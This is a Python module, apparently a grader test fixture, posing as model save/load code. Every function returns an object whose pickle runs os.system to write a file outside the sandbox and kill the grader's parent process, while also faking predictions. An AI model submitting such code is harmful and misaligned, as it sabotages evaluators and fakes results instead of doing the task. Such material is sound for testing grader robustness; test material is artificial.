"""Returns objects whose pickles run a command: graders that unpickle answers run it themselves.

Expect: 1 points
Reason: its predictions are others
"""

import os
from pathlib import Path


class Payload:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/unpickled-$$; kill -9 $PPID",)

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *args: Payload()


def save_model(model, path):
    import pickle

    Path(path).write_bytes(pickle.dumps(Payload()) + bytes(1000))
    return Payload()


def load_model(path):
    if not Path(path).exists():
        raise FileNotFoundError(path)
    return Payload()


def names(folder):
    return Payload()
